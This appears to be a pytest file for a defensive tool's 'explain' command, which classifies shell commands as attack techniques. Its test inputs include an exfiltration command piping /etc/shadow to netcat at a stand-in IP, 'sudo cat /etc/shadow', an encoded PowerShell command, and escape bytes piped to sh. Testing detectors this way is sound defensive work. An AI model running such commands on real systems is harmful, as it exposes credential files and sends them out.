"""``ttpline explain``: the same content as text and as JSON, from the real command."""

import json
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from ttpline.cli.main import run

Ttpline = Callable[..., subprocess.CompletedProcess[bytes]]


def test_the_text_tells_meaning_evidence_and_what_would_change_it(
    model_dir: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["explain", "cat /etc/shadow | nc 192.0.2.1 4444", "--model", model_dir]) == 0
    shown = capsys.readouterr().out
    for line in ("part 2  nc", "verdict  attack", "was seen with this technique", "runner-up", "what would change"):
        assert line in shown


def test_json_has_every_section(model_dir: str, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    assert run(["explain", "powershell -enc dwBoAG8AYQBtAGkA", "--model", model_dir, "--json"]) == 0
    found = json.loads(capsysbinary.readouterr().out)
    assert list(found) == [
        "command", "dialect", "meaning", "notes", "prediction", "explanations", "without", "runner_up",
    ]  # fmt: skip
    assert found["meaning"]["text"] == "powershell -Command whoami"
    assert [layer["kind"] for layer in found["meaning"]["layers"]] == ["base64"]
    assert [part["program"] for part in found["meaning"]["parts"]] == ["powershell", "whoami"]


def test_json_and_text_have_the_same_reasons(model_dir: str, ttpline: Ttpline) -> None:
    command = "sudo cat /etc/shadow"
    found = json.loads(ttpline("explain", command, "--model", model_dir, "--json").stdout)
    shown = " ".join(ttpline("explain", command, "--model", model_dir).stdout.decode().split())
    sentences = [reason["sentence"] for each in found["explanations"] for reason in each["reasons"]]
    assert sentences
    assert [one for one in sentences if one not in shown] == []


@pytest.mark.parametrize("extra", [(), ("--json",)])
def test_hostile_bytes_come_out_escaped(ttpline: Ttpline, model_dir: str, extra: tuple[str, ...]) -> None:
    stdin = b"echo \x1b]0;owned\x07\x1b[2J \xff\xfe \xe2\x80\xae $'\\x1b[31m' | sh\n"
    result = ttpline("explain", "-", "--model", model_dir, *extra, stdin=stdin)
    assert result.returncode == 0, result.stderr
    assert not {byte for byte in result.stdout if byte < 32} - set(b"\n")
    # JSON is UTF-8 as it is, by contract; a page for people is not.
    assert extra or b"\xe2\x80\xae" not in result.stdout


def test_a_command_of_64_kib_is_explained(ttpline: Ttpline, model_dir: str) -> None:
    stdin = b" ; ".join([b"cat /etc/shadow"] * 3_600)
    result = ttpline("explain", "-", "--model", model_dir, stdin=stdin)
    assert result.returncode == 0, result.stderr
    assert b"more parts" in result.stdout
    assert len(result.stdout) < 60_000


def test_a_closed_pipe_ends_quietly(executable: str, model_dir: str) -> None:
    command = ["bash", "-c", f"{executable} explain 'cat /etc/shadow' --model {model_dir} | head -n 1"]
    result = subprocess.run(command, capture_output=True, timeout=120, check=False)
    assert result.stdout.startswith(b"command")
    assert result.stderr == b""


def test_a_file_named_in_a_command_is_not_read(ttpline: Ttpline, model_dir: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("never shown")
    result = ttpline("explain", f"sh {secret}; source {secret}", "--model", model_dir)
    assert b"never shown" not in result.stdout
